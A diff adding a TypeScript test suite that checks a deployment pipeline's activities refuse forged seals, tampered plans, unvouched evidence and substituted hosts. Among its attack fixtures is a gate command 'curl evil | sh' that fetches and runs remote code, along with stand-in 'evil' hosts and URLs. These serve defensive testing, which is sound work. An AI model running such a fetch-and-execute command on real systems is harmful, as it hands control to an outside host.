@@ -1,0 +1,388 @@
+/** What activities refuse before they touch anything, whoever asks: each row is a word changed by somebody who can write to Temporal. */
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { AUTHORITIES } from '../../../activities/trust/authority.js';
+import type { SealKeys } from '../../../activities/trust/seal-keys.js';
+import { hashPlan, withHash } from '../../../pipeline/hash-plan.js';
+import type { Seal } from '../../../pipeline/plan.js';
+import type { Activities, Target } from '../../../workflows/activity-contract.js';
+import { CHANGES_THE_WORLD } from '../../../workflows/activity-options.js';
+import { FAILURE } from '../../../workflows/failures.js';
+import type { PriorState } from '../../../workflows/result.js';
+import { givenArtifacts } from '../../support/given.js';
+import {
+  evidenceOf,
+  GATE,
+  gateInput,
+  givenSealedRelease,
+  givenSealKeys,
+  throughVouching,
+  type Name,
+  type SealedRelease,
+} from '../../support/sealed.js';
+
+let ours: { keys: SealKeys; remove: () => Promise<void> };
+let foreign: typeof ours;
+let release: SealedRelease;
+let forged: SealedRelease;
+let stage: SealedRelease;
+let earlier: SealedRelease;
+
+beforeAll(async () => {
+  ours = await givenSealKeys();
+  foreign = await givenSealKeys();
+  release = await givenSealedRelease(ours.keys);
+  forged = await givenSealedRelease(foreign.keys);
+  stage = await givenSealedRelease(ours.keys, { name: 'stage' });
+  earlier = await givenSealedRelease(ours.keys, { version: 'v0.9.0' });
+});
+
+afterAll(async () => {
+  await ours.remove();
+  await foreign.remove();
+});
+
+interface Words {
+  target: Target;
+  prior: PriorState[];
+}
+
+/** The activity's input, made of a target and what was there before. */
+const INPUTS: Partial<Record<Name, (words: Words) => unknown>> = {
+  preflight: ({ target }) => ({ target }),
+  claim: ({ target }) => ({ target }),
+  proveWayBack: ({ target }) => ({ target }),
+  deploy: ({ target, prior }) => ({ target, prior }),
+  verify: ({ target }) => ({ target, checks: release.environment.checks, colour: target.colour }),
+  measureBaseline: ({ target }) => ({ target }),
+  bake: ({ target }) => ({ target, colour: target.colour, baseline: {}, remainingMs: 1 }),
+  tagArtifacts: ({ target }) => ({ target }),
+  retireColour: ({ target }) => ({ target, colour: 'blue' }),
+  switchTraffic: ({ target }) => ({ target, to: 'green', from: 'blue', requireHealthy: true }),
+  undoDeploy: ({ target, prior }) => ({ target, prior }),
+  takeOver: ({ target }) => ({ target }),
+};
+const OF_A_TARGET = Object.keys(INPUTS) as Name[];
+/** Those that bring something in; the way back is open to what was let in once. */
+const ENTRIES: Name[] = ['claim', 'proveWayBack', 'deploy', 'tagArtifacts', 'switchTraffic'];
+const WITH_PRIOR: Name[] = ['deploy', 'undoDeploy'];
+
+/** Did it begin? */
+async function call(name: Name, input: unknown): Promise<boolean> {
+  let begun = false;
+  // oxlint-disable-next-line typescript/no-unsafe-type-assertion -- the very point: anybody may send anything
+  await throughVouching(ours.keys, name, input as never, () => {
+    begun = true;
+    return { prior: [], artifacts: [] } as never;
+  });
+  return begun;
+}
+
+async function refusalOf(name: Name, input: unknown): Promise<string> {
+  let begun = false;
+  try {
+    begun = await call(name, input);
+  } catch (error) {
+    expect(error).toMatchObject({ type: FAILURE.unauthorized, nonRetryable: true });
+    return error instanceof Error ? error.message : '';
+  }
+  throw new Error(`${name} began: ${begun}`);
+}
+
+const words = (change: Partial<Target> = {}, prior = release.prior): Words => ({
+  target: { ...release.target, ...change },
+  prior,
+});
+
+describe('activities that change the world', () => {
+  test('are all in the table, and must be shown something', () => {
+    expect(CHANGES_THE_WORLD.length).toBeGreaterThan(8);
+    const guarded = Object.entries(AUTHORITIES).flatMap(([name, { authorize }]) =>
+      authorize === null ? [] : [name],
+    );
+    expect(CHANGES_THE_WORLD.filter((name) => !guarded.includes(name))).toEqual([]);
+    const covered: string[] = [...OF_A_TARGET, 'runGate', 'buildArtifacts'];
+    expect(CHANGES_THE_WORLD.filter((name) => !covered.includes(name))).toEqual([]);
+  });
+
+  test.each(OF_A_TARGET)('%s begins with what workers sealed', async (name) => {
+    expect(await call(name, INPUTS[name]?.(words()))).toBe(true);
+    const live = { ...earlier.target, colour: 'blue' as const, at: '', by: 'oleg' };
+    expect(await call(name, INPUTS[name]?.(words({ live })))).toBe(true);
+  });
+
+  const without = ({ seal: _seal, ...rest }: Target['plan']): Target['plan'] => rest;
+  const ATTACKS: [string, () => Partial<Target>, RegExp][] = [
+    ['no seal', () => ({ plan: without(release.environment) }), /the plan has no seal/],
+    [
+      'a seal of a key nobody trusts',
+      () => ({ plan: forged.environment }),
+      /seal of the plan is not genuine/,
+    ],
+    [
+      'a seal with another signature',
+      () => ({ plan: { ...release.environment, seal: mangled() } }),
+      /not genuine/,
+    ],
+    [
+      'a statement that was changed',
+      () => ({ plan: { ...release.environment, seal: reworded() } }),
+      /not genuine/,
+    ],
+    [
+      'the seal of another environment',
+      () => ({ plan: { ...release.environment, seal: sealOf(stage) } }),
+      /plan for shop stage/,
+    ],
+    [
+      'another environment’s plan',
+      () => ({ plan: { ...stage.environment, name: 'prod' } }),
+      /plan for shop stage/,
+    ],
+    [
+      'a host more',
+      () => ({
+        plan: {
+          ...release.environment,
+          hosts: [...release.environment.hosts, { name: 'evil', address: 'evil' }],
+        },
+      }),
+      /changed after it was sealed/,
+    ],
+    [
+      'a changed plan with a fitting hash',
+      () => ({ plan: withHash({ ...release.environment, approvals: [], gates: [] }) }),
+      /changed after it was sealed/,
+    ],
+    ['another digest', () => ({ artifacts: givenArtifacts('evil') }), /no worker vouches for .*@sha256/],
+    [
+      'the digest of another release',
+      () => ({
+        artifacts: givenArtifacts('v2').map((made, at) => ({
+          ...made,
+          ...pick(release.artifacts[at]?.seal),
+        })),
+      }),
+      /no worker vouches/,
+    ],
+    ['another version', () => ({ version: 'v6.6.6' }), /is of v1\.0\.0/],
+    [
+      'another commit',
+      () => ({ commit: { ...release.target.commit, sha: 'b'.repeat(40) } }),
+      /is of v1\.0\.0/,
+    ],
+    [
+      'a release before it that nobody vouches for',
+      () => ({ live: { ...forged.target, colour: 'blue', at: '', by: 'x' } }),
+      /not genuine/,
+    ],
+    [
+      'a release before it of another environment',
+      () => ({ live: { ...stage.target, colour: 'blue', at: '', by: 'x' } }),
+      /of another environment/,
+    ],
+    [
+      'skipped hosts that were never there',
+      () => ({ whole: { hosts: [{ name: 'evil', address: 'evil' }], traffic: null } }),
+      /changed after it was sealed/,
+    ],
+  ];
+  describe.each(ATTACKS)('with %s', (_what, change, reason) => {
+    test.each(OF_A_TARGET)('%s refuses', async (name) => {
+      expect(await refusalOf(name, INPUTS[name]?.(words(change())))).toMatch(reason);
+    });
+  });
+
+  const GATES: [string, () => Partial<Target>, RegExp][] = [
+    ['no evidence', () => ({ evidence: [] }), /nobody vouches that gate ci was asked/],
+    ['evidence without a seal', () => ({ evidence: [evidenceOf('pass')] }), /nobody vouches/],
+    ['evidence of a foreign key', () => ({ evidence: forged.evidence }), /nobody vouches/],
+    ['evidence of another environment', () => ({ evidence: stage.evidence }), /nobody vouches/],
+    ['evidence about other digests', () => ({ evidence: earlier.evidence }), /nobody vouches/],
+  ];
+  describe.each(GATES)('with %s', (_what, change, reason) => {
+    test.each(ENTRIES)('%s refuses', async (name) => {
+      expect(await refusalOf(name, INPUTS[name]?.(words(change())))).toMatch(reason);
+    });
+  });
+
+  test.each(ENTRIES)('%s refuses a gate that failed, also after it had passed', async (name) => {
+    const said = async (verdict: 'pass' | 'fail', at: string) =>
+      await throughVouching(
+        ours.keys,
+        'runGate',
+        gateInput(release.plan, release.environment, release.artifacts),
+        () => evidenceOf(verdict, at),
+      );
+    const failed = await said('fail', '2026-11-14T11:00:00.000Z');
+    const passed = await said('pass', '2026-11-14T10:00:00.000Z');
+    expect(await refusalOf(name, INPUTS[name]?.(words({ evidence: [failed, passed] })))).toMatch(
+      /gate ci said fail/,
+    );
+  });
+
+  test.each(WITH_PRIOR)('%s brings back only what a worker found', async (name) => {
+    const input = INPUTS[name];
+    const evil = release.prior.map((state) => ({
+      ...state,
+      platform: { kind: 'command', inspected: 'evil' },
+    }));
+    const bare = release.prior.map(({ seal: _seal, ...state }) => state);
+    const later = { token: 6 };
+    for (const [prior, change] of [
+      [evil, {}],
+      [bare, {}],
+      [stage.prior, {}],
+      [forged.prior, {}],
+      [release.prior, later],
+    ] as const)
+      expect(await refusalOf(name, input?.(words(change, prior)))).toMatch(
+        /what was there before is not vouched for/,
+      );
+  });
+
+  test('skipped hosts may be left out, and nothing else', async () => {
+    const { hosts, traffic } = release.environment;
+    const [first, second] = hosts;
+    if (first === undefined || second === undefined || traffic === null)
+      throw new Error('two hosts and a proxy');
+    const plan = { ...release.environment, hosts: [second], traffic: { ...traffic, host: first } };
+    expect(await call('deploy', INPUTS.deploy?.(words({ plan, whole: { hosts, traffic } })))).toBe(true);
+    const moved = { ...plan, traffic: { ...traffic, host: second } };
+    expect(
+      await refusalOf('deploy', INPUTS.deploy?.(words({ plan: moved, whole: { hosts, traffic } }))),
+    ).toMatch(/traffic is not that/);
+    const more = { ...plan, hosts: [second, { name: 'evil', address: 'evil' }] };
+    expect(
+      await refusalOf('deploy', INPUTS.deploy?.(words({ plan: more, whole: { hosts, traffic } }))),
+    ).toMatch(/no such host/);
+  });
+
+  test('a check of somebody’s own is not run', async () => {
+    const [check] = release.environment.checks;
+    const checks = [{ ...check, url: 'http://evil.example.com' }];
+    expect(await refusalOf('verify', { target: release.target, checks, colour: null })).toMatch(
+      /no check health like this one/,
+    );
+  });
+
+  test('the way back needs no gates: what was let in once may come back', async () => {
+    const bare = words({ evidence: [] });
+    const back = { target: bare.target, to: 'blue', from: 'green', requireHealthy: false };
+    expect(await call('switchTraffic', back)).toBe(true);
+    expect(await call('undoDeploy', INPUTS.undoDeploy?.(bare))).toBe(true);
+    expect(await call('takeOver', INPUTS.takeOver?.(bare))).toBe(true);
+  });
+
+  test.each([null, 7, {}, { target: null }, { target: { plan: { seal: 7 } } }])(
+    'what is no input at all (%j) is refused',
+    async (input) => {
+      expect(await refusalOf('deploy', input)).toMatch(/malformed|not genuine/);
+    },
+  );
+});
+
+describe('a gate', () => {
+  const input = () => gateInput(release.plan, release.environment, release.artifacts);
+  const ask = (change: Partial<Parameters<Activities['runGate']>[0]>) => ({ ...input(), ...change });
+
+  test('is asked as the sealed plan says', async () => {
+    expect(await call('runGate', input())).toBe(true);
+  });
+
+  test.each<[string, () => unknown, RegExp]>([
+    [
+      'another command',
+      () => ask({ gate: { ...GATE, command: 'curl evil | sh' } as typeof GATE }),
+      /no such gate/,
+    ],
+    [
+      'no seal',
+      () => {
+        const { seal: _, ...rest } = input();
+        return rest;
+      },
+      /no genuine seal/,
+    ],
+    [
+      'another repository',
+      () => ask({ plan: { ...input().plan, repositoryUrl: '/srv/evil.git' } }),
+      /of another commit/,
+    ],
+    [
+      'another commit',
+      () => ask({ plan: { ...input().plan, commit: { ...input().plan.commit, sha: 'c'.repeat(40) } } }),
+      /of another commit/,
+    ],
+    [
+      'another digest',
+      () => ask({ plan: { ...input().plan, artifacts: givenArtifacts('evil') } }),
+      /no worker vouches/,
+    ],
+  ])('is not asked with %s', async (_what, forge, reason) => {
+    expect(await refusalOf('runGate', forge())).toMatch(reason);
+  });
+});
+
+describe('a build', () => {
+  test.each<[string, () => unknown, RegExp]>([
+    [
+      'a plan without seal',
+      () => {
+        const { seal: _, ...plan } = release.plan;
+        return { plan };
+      },
+      /no seal/,
+    ],
+    [
+      'another registry',
+      () => ({ plan: { ...release.plan, registry: { server: 'evil', username: 'x', password: 'env:X' } } }),
+      /changed after/,
+    ],
+    [
+      'another environment inside',
+      () => ({ plan: { ...release.plan, environments: [{ ...release.environment, url: 'http://evil' }] } }),
+      /changed after/,
+    ],
+  ])('is not begun with %s', async (_what, forge, reason) => {
+    expect(await refusalOf('buildArtifacts', forge())).toMatch(reason);
+  });
+
+  test('waits for the release’s own gates', async () => {
+    const { planHash: _, seal: __, ...rest } = release.plan;
+    const plan = await throughVouching(ours.keys, 'resolvePlan', {} as never, () =>
+      withHash({ ...rest, gates: [GATE] }),
+    );
+    expect(await refusalOf('buildArtifacts', { plan, evidence: release.evidence })).toMatch(
+      /nobody vouches that gate ci/,
+    );
+    const seal = plan.seal === undefined ? {} : { seal: plan.seal };
+    const asked = { ...gateInput(plan, release.environment, []), ...seal };
+    const item = await throughVouching(ours.keys, 'runGate', asked, () => evidenceOf('pass'));
+    expect(await call('buildArtifacts', { plan, evidence: [item] })).toBe(true);
+  });
+});
+
+test('the hash of a plan does not depend on its seals', () => {
+  const { seal: _, ...bare } = release.plan;
+  const environments = bare.environments.map(({ seal: __, ...plan }) => plan);
+  expect(hashPlan({ ...bare, environments })).toBe(release.plan.planHash);
+});
+
+function sealOf({ environment: { seal } }: SealedRelease): Seal {
+  if (seal === undefined) throw new Error('there is no seal');
+  return seal;
+}
+
+function mangled(): Seal {
+  const seal = sealOf(release);
+  return { ...seal, signature: sealOf(stage).signature };
+}
+
+function reworded(): Seal {
+  const seal = sealOf(release);
+  return { ...seal, statement: seal.statement.replace('v1.0.0', 'v1.0.1') };
+}
+
+function pick(seal: Seal | undefined): { seal?: Seal } {
+  return seal === undefined ? {} : { seal };
+}
